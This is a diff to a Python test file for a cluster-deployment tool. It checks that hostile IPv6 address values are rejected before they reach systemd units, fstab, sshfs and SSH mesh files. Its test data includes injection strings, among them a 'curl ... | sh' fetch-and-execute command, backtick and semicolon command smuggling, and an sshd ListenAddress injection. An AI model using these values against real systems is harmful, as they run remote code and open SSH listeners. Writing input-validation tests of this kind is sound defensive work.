@@ -16,12 +16,12 @@ import subprocess
 import pytest
 from hypothesis import given, settings, strategies as st
 
-from fabfile.core.errors import InputError
+from fabfile.core.errors import HostError, InputError
 from fabfile.core.files import UnsafeValue, render
 from fabfile.core.inventory import parse_inventory
 from fabfile.core.mapping import parse_mapping
 from fabfile.core.networks import Reach, check_bind_address, check_network, read_reach, strict_ip
-from fabfile.ops import launch, netenv, nfs, ray, sshfs
+from fabfile.ops import launch, mesh, netenv, nfs, ray, sshfs
 
 HOSTILE = ["fd00::10%x;curl http://198.18.0.1/x|sh", "fd00::1%;id", "fd00::1%eth0", "fe80::1%x,*",
            "fd00::1%a\nListenAddress 0.0.0.0", "fd00::1%`id`"]
@@ -103,8 +103,10 @@ def test_an_address_that_got_past_a_parser_stops_every_file_it_would_land_in(val
         ray.unit_file(ray.UnitPlan("head", "gpu", "/opt/ray", value, value))
     with pytest.raises(UnsafeValue):
         nfs.fstab_block(value, "/mnt/shared", "/mnt/shared")
+    with pytest.raises(HostError, match="no private address"):
+        mesh.authorized_lines([mesh.Peer("b", value, "b", 22, "gpu", 1, (), "ssh-ed25519 AAAA")], "")
     with pytest.raises(UnsafeValue):
-        render("mesh/authorized-keys-block.j2", addresses=["198.19.0.11", value], public_key="ssh-ed25519 AAAA k")
+        render("mesh/hosts-block.j2", peers=[mesh.Peer("b", value, "b", 22, "gpu", 1)])
     with pytest.raises(ValueError):
         sshfs.key_line("b", value, "ssh-ed25519 AAAAC3Nza gpufab-sshfs@b")
     with pytest.raises(ValueError):
